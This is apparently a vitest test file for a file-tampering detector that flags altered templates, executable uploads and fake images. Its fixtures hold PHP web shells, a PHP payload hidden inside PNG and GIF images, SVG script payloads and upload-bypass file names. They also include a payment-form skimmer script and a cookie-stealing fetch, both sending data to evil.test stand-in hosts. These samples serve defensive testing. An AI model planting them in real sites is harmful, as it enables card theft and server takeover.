import { type BlobRef, canonicalJson, type FileChange, type Instant } from '@komainu/model';
import { deflateSync } from 'node:zlib';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { SIGNS } from '../src/code/signs.ts';
import { CONTENT_RULES, executableByName, NAME_RULES } from '../src/files/executable.ts';
import { imageShape } from '../src/files/image.ts';
import { isFalseImage, judgeFiles, judgeSilence } from '../src/index.ts';
import { added, altered, change, REF, report, state, store } from './make.ts';

const judge = (changes: readonly FileChange[], kept = store(), gaps: Parameters<typeof report>[1] = []) =>
  judgeFiles({ ref: REF, report: report(changes, gaps), bodies: kept.bodies });
const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
};
const png = Buffer.concat([
  Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
  chunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0])),
  chunk('IDAT', deflateSync(Buffer.alloc(4))),
  chunk('IEND', Buffer.alloc(0)),
]);
const segment = (marker: number, data: Buffer): Buffer =>
  Buffer.concat([Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]), data]);
const jpeg = Buffer.concat([
  Buffer.from('ffd8', 'hex'),
  segment(0xe0, Buffer.from('4a46494600010100000100010000', 'hex')),
  segment(0xdb, Buffer.alloc(65, 1)),
  segment(0xc0, Buffer.from('080001000101011100', 'hex')),
  segment(0xda, Buffer.from('0101003f0000', 'hex').subarray(0, 6)),
  Buffer.from('d2cf20ff00aa55ffd0aa12', 'hex'),
  Buffer.from('ffd9', 'hex'),
]);
const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const webp = (() => {
  const bytes = Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBPVP8L\x10\0\0\0', 'latin1'), Buffer.alloc(16, 7)]);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
})();
const svg = Buffer.from(
  '<?xml version="1.0"?>\n<!-- 商品 -->\n<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>\n',
);
const IMAGES = { png, jpeg, gif, webp, svg };
const LOOT = Buffer.from(
  `${Array.from({ length: 20 }, (_, i) => Buffer.from(`card ${i}`).toString('base64')).join('\n')}\n`,
);

describe('tables', () => {
  test.each([...NAME_RULES, ...CONTENT_RULES, ...SIGNS])(
    '$pattern matches its example',
    ({ pattern, example }) => {
      expect(pattern.test(example)).toBe(true);
    },
  );
});

test('who wrote it is said with the finding, as far as the kernel told, and not as its own word', () => {
  const kept = store();
  const who = { pid: 4711, uid: 33, user: 'www-data', command: 'php-fpm: pool www\u202e' };
  const by = (writer: NonNullable<FileChange['who']>) =>
    judge([altered(kept, 'pay.php', 'a', 'b', { who: writer })], kept).findings[0]?.detail;
  expect(by(who)?.en).toMatch(
    /Written by process 4711 \(php-fpm: pool www\ufffd\) of the user www-data, by the kernel/,
  );
  expect(by(who)?.ja).toContain('ユーザー www-data のプロセス 4711（php-fpm: pool www\ufffd）');
  expect(by({ pid: 9, uid: null, user: null, command: null })?.en).toMatch(
    /Written by process 9, by the kernel/,
  );
});

test('which uploads are tampered with is told apart from the rest', () => {
  const kept = store();
  const shell = added(kept, 'up/shell.php', '<?php eval($_POST[0]);');
  const picture = added(kept, 'up/a.png', png);
  const gone = change('up/gone.png', { kind: 'removed', policy: 'no-exec' });
  const sealed = altered(kept, 'pay.php', '<?php echo 1;', '<?php eval($_POST[0]);');
  expect(judge([shell, picture, gone], kept).uploads).toEqual({
    tampered: ['up/shell.php'],
    others: ['up/a.png', 'up/gone.png'],
    tamperedElsewhere: false,
  });
  expect(judge([gone], kept).verdict.kind).toBe('clean');
  expect(judge([sealed, picture], kept).uploads).toMatchObject({ tampered: [], tamperedElsewhere: true });
  expect(judge([sealed], kept).uploads).toBeUndefined();
});

describe('sealed-file', () => {
  test('nothing changed is clean', () => {
    expect(judge([]).verdict.kind).toBe('clean');
  });

  test('an altered template is told in words: lines, hosts, what it does', () => {
    const kept = store();
    const before = '<form>\n{{ fields }}\n</form>\n';
    const after = `${before}<script>new Image().src='https://img-cdn.evil.test/p?d='+btoa(JSON.stringify(f))</script>\n`;
    const { verdict, findings } = judge([altered(kept, 'templates/payment.twig', before, after)], kept);
    expect(verdict).toMatchObject({ kind: 'tampered' });
    expect(verdict.reason.ja).toContain('templates/payment.twig');
    const [found] = findings;
    expect(found).toMatchObject({ severity: 'critical', key: 'sealed-file:changed templates/payment.twig' });
    for (const said of ['1 line added, 0 removed', 'img-cdn.evil.test', 'address of an image', 'base64'])
      expect(found?.detail.en).toContain(said);
    expect(found?.references.map(({ role }) => role)).toEqual(['before', 'after']);
  });

  test('code appended to one line of minified script is found though the line is one', () => {
    const kept = store();
    const before = `!function(){${'var a=1;'.repeat(20_000)}}();`;
    const after = `${before}fetch("//c.evil.test/"+document.cookie)`;
    const [found] = judge([altered(kept, 'js/app.min.js', before, after)], kept).findings;
    expect(found?.detail.en).toContain('c.evil.test');
    expect(found?.detail.en).toContain('sends data over the network');
  });

  test('a time stamp set back after a write is said', () => {
    const kept = store();
    const set = '2026-01-01T00:00:00.000Z' as Instant;
    const one = altered(kept, 'a.php', '<?php a();', '<?php b();');
    const back = { ...one, after: { ...state(kept, '<?php b();'), mtime: set } };
    expect(judge([back], kept).findings[0]?.detail.en).toContain('set back');
    expect(judge([one], kept).findings[0]?.detail.en).not.toContain('set back');
  });

  test.each<readonly [string, Partial<FileChange>, string, string]>([
    ['a picture', {}, 'tampered', 'high'],
    ['a removed file', { kind: 'removed', after: null, bodyAfter: null }, 'tampered', 'high'],
    ['a renamed template', { kind: 'renamed', from: 'pay.twig' }, 'tampered', 'critical'],
  ])('%s', (_, more, grade, severity) => {
    const kept = store();
    const { findings } = judge(
      [altered(kept, 'img/logo.png', png, Buffer.concat([png.subarray(0, 20), jpeg]), more)],
      kept,
    );
    expect(findings.find(({ detector }) => detector === 'sealed-file')).toMatchObject({ grade, severity });
  });

  test('rights: setuid and world-writable are told; a time stamp alone is slight; a link says where', () => {
    const kept = store();
    const before = state(kept, 'x');
    const of = (after: typeof before) =>
      judge([change('bin/pay', { kind: 'metadata', before, after })], kept).findings[0];
    const open = of({ ...before, mode: 0o4777 });
    expect(open).toMatchObject({ grade: 'tampered' });
    expect(open?.detail.en).toMatch(
      /0644 became 04777, so others can now write to it, so it can now be run, with its owner/,
    );
    expect(of({ ...before, uid: 0 })).toMatchObject({ grade: 'tampered' });
    expect(of({ ...before, mtime: '2026-11-22T12:00:01.000Z' as Instant })).toMatchObject({
      grade: 'changed',
      severity: 'low',
    });
    const link = { ...before, type: 'link' as const, link: '/etc/passwd', hash: kept.put('/etc/passwd') };
    expect(judge([change('a', { before, after: link })], kept).findings[0]?.detail.en).toContain(
      'link to /etc/passwd',
    );
  });

  test('an empty directory is changed; a body that is not at hand is still tampered', () => {
    const kept = store();
    const directory = { ...state(kept, ''), type: 'directory' as const, hash: null };
    expect(judge([change('new', { kind: 'added', after: directory })], kept).verdict.kind).toBe('changed');
    const lost = altered(kept, 'a.php', 'x', 'y');
    expect(judge([lost], store()).verdict.kind).toBe('tampered');
    expect(judge([{ ...lost, bodyBefore: null, bodyAfter: null }]).verdict.kind).toBe('tampered');
  });

  test('hostile: megabytes, binary, names made to deceive', () => {
    const kept = store();
    const big = 'a//b.c/'.repeat(700_000);
    const name = `x\u202e${'/long'.repeat(2000)}.php`;
    const { findings } = judge(
      [altered(kept, name, big, `${big}!`), altered(kept, 'b.js', Buffer.alloc(9), Buffer.alloc(10, 0xff))],
      kept,
    );
    expect(findings).toHaveLength(2);
    for (const { title, key } of findings) {
      expect(title.ja).not.toContain('\u202e');
      expect(title.en.length).toBeLessThan(200);
      expect(key.length).toBeLessThanOrEqual(300);
    }
    expect(() => canonicalJson(findings)).not.toThrow();
  });
});

describe('executable-upload', () => {
  test.each([
    'up/shell.php',
    'up/Shell.PhP',
    'up/x.php.jpg',
    'up/x.php5',
    'up/x.phtml',
    'up/x.phar',
    'up/.htaccess',
    'up/.user.ini',
    'up/a.php.',
    'up/a.php\\x00.jpg',
    'up/a.php ',
    'up/web.config',
    'up/a.cgi',
    'up/a.jsp',
    'up/a.js',
    'up/a.html',
    'up/a.shtml',
  ])('%s by its name', (path) => {
    const kept = store();
    const { findings, verdict } = judge([added(kept, path, 'x')], kept);
    expect(verdict.kind).toBe('tampered');
    expect(findings.some(({ detector }) => detector === 'executable-upload')).toBe(true);
    expect(executableByName(path)).not.toBeNull();
  });

  test.each<readonly [string, string | Uint8Array]>([
    ['up/a.txt', '<?php system($_GET[0]);'],
    ['up/a.txt', '  <?= `$_GET[c]` ?>'],
    ['up/a', '#!/bin/sh\nid'],
    ['up/a.dat', '\x7fELF\x02\x01'],
    ['up/a.gif', Buffer.concat([gif, Buffer.from('<?php eval($_POST[1]);')])],
    [
      'up/a.png',
      Buffer.concat([
        png.subarray(0, -12),
        chunk('tEXt', Buffer.from('Comment\0<?php @eval($_POST[1]);?>')),
        png.subarray(-12),
      ]),
    ],
    ['up/a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['up/a.svg', '<svg onload="alert(1)"></svg>'],
    ['up/noextension', 'x,<SCRIPT src=//evil.test></SCRIPT>'],
    ['up/a.svg', '<svg><a href="javascript:alert(1)"/></svg>'],
  ])('%s by its content', (path, body) => {
    const kept = store();
    const { verdict, findings } = judge([added(kept, path, body)], kept);
    expect(verdict.kind).toBe('tampered');
    expect(findings.some(({ detector }) => detector === 'executable-upload')).toBe(true);
  });

  test('a link is told, a file not kept is not observed, removed and other policies are quiet', () => {
    const kept = store();
    const link = { ...state(kept, '/etc'), type: 'link' as const, link: '/etc' };
    expect(judge([added(kept, 'up/x', 'x', { after: link })], kept).verdict.kind).toBe('tampered');
    expect(judge([added(kept, 'up/film.mp4', 'x', { bodyAfter: null })], kept).verdict.kind).toBe(
      'not-fully-observed',
    );
    expect(judge([added(kept, 'up/x.php', 'x', { kind: 'removed', after: null })], kept).verdict.kind).toBe(
      'clean',
    );
    expect(judge([added(kept, 'cache/x.php', '<?php', { policy: 'churn' })], kept).verdict.kind).toBe(
      'clean',
    );
  });

  test('what shops upload every day is quiet', () => {
    const kept = store();
    const files: readonly (readonly [string, string | Uint8Array])[] = [
      ...Object.entries(IMAGES).map(([name, bytes]) => [`up/a.${name}`, bytes] as const),
      ['up/photo.jpg', png],
      ['up/phpinfo-seminar.pdf', '%PDF-1.7\n%\xe2\xe3 1 0 obj'],
      ['up/list.csv', 'code,price\nA,737\n'],
      ['up/notes.txt', 'a < b ? c : d; <b>5 <= 6</b> <?xml version="1.0"?>'],
      ['up/movie.mts', Buffer.from('47400010', 'hex')],
      ['up/Acme.Inc.png', png],
      ['up/form.pdf', '%PDF-1.7\n<script contentType="application/x-formcalc">1</script>'],
      ['up/catalogue.csv', 'code,html\nA,"<script src=x></script>"\n'],
      ['up/data.zip', Buffer.from('504b0304', 'hex')],
    ];
    expect(
      judge(
        files.map(([path, body]) => added(kept, path, body)),
        kept,
      ).findings,
    ).toEqual([]);
  });

  test('random bytes are not taken for code', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 500, maxLength: 4000 }), (bytes) => {
        const kept = store();
        return judge([added(kept, 'up/a.bin', bytes)], kept).verdict.kind === 'clean';
      }),
      { seed: 7, numRuns: 200 },
    );
  });
});

describe('not-an-image', () => {
  test.each(Object.entries(IMAGES))('%s is read to its end', (_, bytes) => {
    expect(imageShape(bytes).kind).toBe('image');
    for (let cut = 0; cut <= bytes.length; cut++)
      if (imageShape(bytes.subarray(0, cut)).kind !== 'none')
        expect(isFalseImage('a.jpg', bytes.subarray(0, cut))).toBe(false);
    expect(isFalseImage('a.jpg', new Uint8Array())).toBe(false);
    expect(imageShape(Buffer.concat([bytes, LOOT])).kind).not.toBe('image');
    for (let cut = 0; cut < bytes.length - 2; cut++)
      expect(imageShape(bytes.subarray(0, cut)).kind).not.toBe('trailing');
  });

  test.each<readonly [string, Uint8Array]>([
    ['loot alone', LOOT],
    ['encrypted loot', Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 197 + (i >> 3) * 31) % 256))],
    ['a borrowed PNG header', Buffer.concat([png.subarray(0, 8), LOOT])],
    ['a borrowed GIF header', Buffer.concat([Buffer.from('GIF89a'), LOOT])],
    ['a borrowed JPEG header', Buffer.concat([jpeg.subarray(0, -2), LOOT])],
    ['a whole JPEG with loot behind it', Buffer.concat([jpeg, LOOT])],
    [
      'a whole PNG with encrypted loot behind it',
      Buffer.concat([png, Buffer.from([1, 2, 3, 4, 5, 200, 201])]),
    ],
    ['a ZIP', Buffer.from('504b030414000000', 'hex')],
  ])('%s named logo.jpg is tampered', (_, bytes) => {
    for (const policy of ['no-exec', 'churn'] as const) {
      const kept = store();
      const { verdict, findings } = judge([added(kept, 'media/logo.jpg', bytes, { policy })], kept);
      expect(verdict.kind).toBe('tampered');
      expect(findings[0]).toMatchObject({ detector: 'not-an-image', confidence: 'likely' });
    }
    expect([isFalseImage('media/logo.jpg', bytes), isFalseImage('media/logo.bin', bytes)]).toEqual([
      true,
      false,
    ]);
  });

  test('an image that grows, line by line, is tampered each time under one key', () => {
    const kept = store();
    const once = Buffer.concat([png, Buffer.from('\0\0\0')]);
    const grown = judge([altered(kept, 'media/a.png', png, once, { policy: 'churn' })], kept);
    expect(grown.findings.map(({ key, grade }) => [key, grade])).toEqual([
      ['not-an-image:media/a.png', 'tampered'],
    ]);
  });

  test('a replaced image, an upload that was finished, and what cameras append are quiet', () => {
    const kept = store();
    const quiet = [
      altered(
        kept,
        'm/a.png',
        png,
        Buffer.concat([png.subarray(0, 33), chunk('tEXt', Buffer.alloc(30, 65)), png.subarray(33)]),
        { policy: 'no-exec' },
      ),
      altered(kept, 'm/b.jpg', jpeg.subarray(0, 20), jpeg, { policy: 'no-exec' }),
      added(kept, 'm/c.jpg', Buffer.concat([jpeg, jpeg, Buffer.alloc(16)])),
      added(kept, 'm/d.jpg', Buffer.concat([jpeg, Buffer.from('samsungSEFT')])),
      added(
        kept,
        'm/e.jpg',
        Buffer.concat([jpeg, Buffer.from('0000000c66747970', 'hex'), Buffer.from('mp42')]),
      ),
    ];
    expect(judge(quiet, kept).findings).toEqual([]);
  });

  test('an empty file and an upload under way are changed, not tampered', () => {
    const kept = store();
    expect(judge([added(kept, 'm/a.png', '')], kept).verdict.kind).toBe('changed');
    expect(judge([added(kept, 'm/a.png', png.subarray(0, 40))], kept).verdict.kind).toBe('changed');
    expect(
      judge([added(kept, 'm/a.png', 'x', { policy: 'churn', bodyAfter: null })], kept).verdict.kind,
    ).toBe('not-fully-observed');
  });

  test('bytes made to make a reader go round or backtrack are read in their own time', () => {
    const ftyp = Buffer.from('00000010667479706d703432000000000000000166726565' + '00'.repeat(16), 'hex');
    for (const bytes of [
      ftyp,
      Buffer.from(' '.repeat(1_000_000)),
      Buffer.from('<!---->'.repeat(100_000)),
      Buffer.from('<!DOCTYPE ['.repeat(100_000)),
      Buffer.from(`<svg ${'<svg on'.repeat(300_000)}`),
      Buffer.from(`<svg>${'"on'.repeat(300_000)}`),
      Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100_000, 0x21)]),
      Buffer.concat([Buffer.from('ffd8', 'hex'), Buffer.alloc(1_000_000, 0xff)]),
    ]) {
      const kept = store();
      expect(judge([added(kept, 'm/a.svg', bytes)], kept).findings.length).toBeGreaterThan(0);
    }
  });

  test('any bytes have a shape', () => {
    const head = fc.constantFrom(
      ...Object.values(IMAGES).map((bytes) => bytes.subarray(0, 14)),
      Buffer.from('BM'),
      Buffer.from('\0\0\x01\0', 'latin1'),
      Buffer.from('\0\0\0\x18ftyp', 'latin1'),
    );
    fc.assert(
      fc.property(head, fc.uint8Array({ maxLength: 300 }), (magic, rest) => {
        expect(['image', 'trailing', 'truncated', 'none']).toContain(
          imageShape(Buffer.concat([magic, rest])).kind,
        );
      }),
      { seed: 3, numRuns: 3000 },
    );
  });
});

test('guard-gaps and guardian-silent are never clean', () => {
  const gaps = [
    { path: 'a\u202e', detail: 'EACCES' },
    { path: null, detail: 'overflow' },
  ];
  const { verdict, findings } = judge([], store(), gaps);
  expect(verdict.kind).toBe('not-fully-observed');
  expect(findings).toHaveLength(2);
  for (const lastSeen of [null, '2026-11-22T12:00:00.000Z' as Instant]) {
    const silent = judgeSilence({ guardian: 'guard-1' as never, kind: 'guard', lastSeen });
    expect(silent).toMatchObject({ verdict: { kind: 'not-fully-observed' }, over: [], baseline: null });
    expect(silent.findings[0]?.key).toBe('guardian-silent:guard-1');
  }
});

test('bodies that cannot be read never throw', () => {
  const lost = added(store(), 'up/a.jpg', 'x', { bodyAfter: `sha256:${'0'.repeat(64)}` as BlobRef });
  expect(judge([lost]).verdict.kind).toBe('not-fully-observed');
});
